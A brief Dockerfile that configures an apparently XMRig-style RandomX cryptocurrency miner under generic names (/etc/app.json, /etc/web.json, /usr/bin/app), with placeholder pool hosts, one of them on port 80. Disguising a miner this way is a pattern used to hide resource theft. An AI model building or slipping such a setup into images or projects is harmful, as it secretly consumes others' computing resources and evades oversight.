FROM debian:12-slim
COPY <<END /etc/app.json
{ "autosave": true, "donate-level": 0, "pools": [ { "url": "pool.example.invalid:3333", "user": "me", "algo": "rx/0" } ] }
END
RUN echo '{"cpu":{"huge-pages":true,"hw-aes":null},"pools":[{"url":"h.example.invalid:80","user":"me"}]}' > /etc/web.json
CMD ["/usr/bin/app", "-c", "/etc/app.json"]
